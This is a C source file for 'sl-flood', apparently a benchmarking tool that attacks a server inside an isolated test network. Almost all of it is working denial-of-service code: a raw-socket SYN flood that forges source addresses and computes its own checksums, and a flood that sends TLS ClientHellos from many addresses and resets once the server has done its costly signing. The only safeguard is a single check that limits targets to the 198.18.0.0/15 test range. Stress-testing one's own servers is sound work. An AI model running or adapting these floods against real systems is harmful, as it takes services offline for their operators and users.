/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * sl-flood: an attacker, for the bench in a network namespace of its own. It must not be pointed at anybody
 * else: it refuses addresses that are not set aside for tests (198.18.0.0/15, RFC 2544).
 *
 *   syn    frames with a SYN each, from forged sources, as fast as the interface takes them
 *   hello  connections from many addresses, each of which sends a TLS ClientHello, waits for the first bytes of
 *          the answer (the server has paid for its signature by then) and resets
 *
 * It prints one line of JSON: what it sent, and for hello how many were answered.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <openssl/ssl.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define HELLO_CONNS 400
#define SYN_BATCH 64
#define TEST_NET 0xc6120000u /* 198.18.0.0 */
#define TEST_MASK 0xfffe0000u

struct flood {
	struct sockaddr_in to;
	uint32_t source; /* hello: the first of n_sources; syn: the network that is forged, /16 */
	uint32_t n_sources;
	double end_s;
	uint64_t n_sent, n_answered;
};

static void die(const char *what)
{
	fprintf(stderr, "sl-flood: %s: %s\n", what, strerror(errno));
	exit(2);
}

static double now_s(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* ---- syn ---- */

struct frame {
	struct ethhdr eth;
	struct iphdr ip;
	struct tcphdr tcp;
} __attribute__((packed));

static uint32_t sum_words(uint32_t sum, const void *p, size_t n)
{
	const uint16_t *w = p;

	for (; n; n -= 2)
		sum += *w++;
	return sum;
}

static uint16_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static void frame_make(struct frame *f, const struct flood *fl, const uint8_t mac[6])
{
	memset(f, 0, sizeof(*f));
	memcpy(f->eth.h_dest, mac, 6);
	f->eth.h_source[0] = 2;
	f->eth.h_proto = htons(ETH_P_IP);
	f->ip.version = 4;
	f->ip.ihl = 5;
	f->ip.tot_len = htons(sizeof(f->ip) + sizeof(f->tcp));
	f->ip.ttl = 64;
	f->ip.protocol = IPPROTO_TCP;
	f->ip.daddr = fl->to.sin_addr.s_addr;
	f->tcp.dest = fl->to.sin_port;
	f->tcp.doff = 5;
	f->tcp.syn = 1;
	f->tcp.window = htons(64240);
}

static void frame_forge(struct frame *f, const struct flood *fl, uint64_t *rng)
{
	struct {
		uint32_t from, to;
		uint16_t proto, len;
	} pseudo;
	uint64_t x = *rng;

	x ^= x << 13;
	x ^= x >> 7;
	x ^= x << 17;
	*rng = x;
	f->ip.saddr = htonl(fl->source | (uint32_t)(x & 0xffff));
	f->tcp.source = htons((uint16_t)(1024 + (x >> 16) % 60000));
	f->tcp.seq = (uint32_t)(x >> 32);
	f->ip.check = f->tcp.check = 0;
	f->ip.check = fold(sum_words(0, &f->ip, sizeof(f->ip)));
	pseudo.from = f->ip.saddr;
	pseudo.to = f->ip.daddr;
	pseudo.proto = htons(IPPROTO_TCP);
	pseudo.len = htons(sizeof(f->tcp));
	f->tcp.check =
		fold(sum_words(sum_words(0, &pseudo, sizeof(pseudo)), &f->tcp, sizeof(f->tcp)));
}

static void run_syn(struct flood *fl, const char *ifname, const char *mac_text)
{
	struct sockaddr_ll at = {.sll_family = AF_PACKET, .sll_halen = 6};
	struct frame frames[SYN_BATCH];
	struct mmsghdr msgs[SYN_BATCH] = {0};
	struct iovec iov[SYN_BATCH];
	uint64_t rng = 0x9e3779b97f4a7c15ull;
	uint8_t mac[6];
	int s = socket(AF_PACKET, SOCK_RAW, 0), one = 1;

	if (s < 0)
		die("packet socket");
	if (sscanf(mac_text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3],
		   &mac[4], &mac[5]) != 6) {
		errno = EINVAL;
		die(mac_text);
	}
	at.sll_ifindex = (int)if_nametoindex(ifname);
	setsockopt(s, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one));
	for (int i = 0; i < SYN_BATCH; i++) {
		frame_make(&frames[i], fl, mac);
		iov[i] = (struct iovec){&frames[i], sizeof(frames[i])};
		msgs[i].msg_hdr = (struct msghdr){.msg_name = &at,
						  .msg_namelen = sizeof(at),
						  .msg_iov = &iov[i],
						  .msg_iovlen = 1};
	}
	while (now_s() < fl->end_s) {
		int n;

		for (int i = 0; i < SYN_BATCH; i++)
			frame_forge(&frames[i], fl, &rng);
		n = sendmmsg(s, msgs, SYN_BATCH, 0);
		if (n < 0 && errno != ENOBUFS && errno != EAGAIN)
			die("sendmmsg");
		if (n > 0)
			fl->n_sent += (uint64_t)n;
	}
	close(s);
}

/* ---- hello ---- */

struct hello {
	uint8_t bytes[2048];
	int n;
};

struct victim {
	int fd;
	bool has_sent;
};

/* What OpenSSL would send first. */
static void hello_make(struct hello *h)
{
	SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
	SSL *ssl = ctx ? SSL_new(ctx) : NULL;
	BIO *in = BIO_new(BIO_s_mem()), *out = BIO_new(BIO_s_mem());

	if (!ssl || !in || !out) {
		errno = ENOMEM;
		die("ClientHello");
	}
	SSL_set_bio(ssl, in, out);
	SSL_set_tlsext_host_name(ssl, "localhost");
	SSL_connect(ssl);
	h->n = BIO_read(out, h->bytes, sizeof(h->bytes));
	SSL_free(ssl);
	SSL_CTX_free(ctx);
}

static void victim_open(struct flood *fl, struct victim *v, uint32_t index, int epfd)
{
	struct sockaddr_in from = {.sin_family = AF_INET,
				   .sin_addr.s_addr = htonl(fl->source + index % fl->n_sources)};
	struct linger reset = {.l_onoff = 1};
	struct epoll_event ev = {.events = EPOLLOUT, .data.u32 = index};
	int one = 1;

	v->has_sent = false;
	v->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (v->fd < 0)
		die("socket");
	setsockopt(v->fd, SOL_SOCKET, SO_LINGER, &reset, sizeof(reset));
	setsockopt(v->fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof(one));
	if (bind(v->fd, (struct sockaddr *)&from, sizeof(from)))
		die("bind");
	if (connect(v->fd, (struct sockaddr *)&fl->to, sizeof(fl->to)) && errno != EINPROGRESS)
		die("connect");
	if (epoll_ctl(epfd, EPOLL_CTL_ADD, v->fd, &ev))
		die("epoll_ctl");
}

/* True once it is over with this connection. */
static bool victim_step(struct flood *fl, struct victim *v, const struct hello *h, uint32_t index,
			uint32_t events, int epfd)
{
	struct epoll_event ev = {.events = EPOLLIN, .data.u32 = index};
	char first[256];

	if (events & (EPOLLERR | EPOLLHUP))
		return true;
	if (!v->has_sent) {
		if (send(v->fd, h->bytes, (size_t)h->n, MSG_NOSIGNAL) != h->n)
			return true;
		v->has_sent = true;
		fl->n_sent++;
		return epoll_ctl(epfd, EPOLL_CTL_MOD, v->fd, &ev) != 0;
	}
	if (recv(v->fd, first, sizeof(first), 0) > 0)
		fl->n_answered++;
	return true;
}

static void run_hello(struct flood *fl)
{
	struct victim victims[HELLO_CONNS];
	struct epoll_event events[HELLO_CONNS];
	int epfd = epoll_create1(EPOLL_CLOEXEC);
	struct hello h;

	hello_make(&h);
	for (uint32_t i = 0; i < HELLO_CONNS; i++)
		victim_open(fl, &victims[i], i, epfd);
	while (now_s() < fl->end_s) {
		int n = epoll_wait(epfd, events, HELLO_CONNS, 100);

		for (int i = 0; i < n; i++) {
			uint32_t index = events[i].data.u32;

			if (!victim_step(fl, &victims[index], &h, index, events[i].events, epfd))
				continue;
			close(victims[index].fd);
			victim_open(fl, &victims[index], index, epfd);
		}
	}
	for (uint32_t i = 0; i < HELLO_CONNS; i++)
		close(victims[i].fd);
	close(epfd);
}

/* ---- the command line ---- */

static uint32_t address(const char *text)
{
	struct in_addr a;

	if (inet_pton(AF_INET, text, &a) != 1 || (ntohl(a.s_addr) & TEST_MASK) != TEST_NET) {
		fprintf(stderr, "sl-flood: \"%s\" is not an address in 198.18.0.0/15\n", text);
		exit(2);
	}
	return ntohl(a.s_addr);
}

int main(int argc, char **argv)
{
	struct flood fl = {.to.sin_family = AF_INET};
	bool is_syn = argc == 8 && strcmp(argv[1], "syn") == 0;

	if (!is_syn && !(argc == 7 && strcmp(argv[1], "hello") == 0)) {
		fputs("usage: sl-flood syn ADDR PORT SECONDS FORGED_NET INTERFACE MAC\n"
		      "       sl-flood hello ADDR PORT SECONDS FIRST_SOURCE N_SOURCES\n",
		      stderr);
		return 2;
	}
	fl.to.sin_addr.s_addr = htonl(address(argv[2]));
	fl.to.sin_port = htons((uint16_t)atoi(argv[3]));
	fl.end_s = now_s() + atof(argv[4]);
	fl.source = address(argv[5]);
	if (is_syn) {
		fl.source &= 0xffff0000u;
		run_syn(&fl, argv[6], argv[7]);
	} else {
		fl.n_sources = (uint32_t)atoi(argv[6]);
		run_hello(&fl);
	}
	printf("{\"sent\": %llu, \"answered\": %llu}\n", (unsigned long long)fl.n_sent,
	       (unsigned long long)fl.n_answered);
	return 0;
}
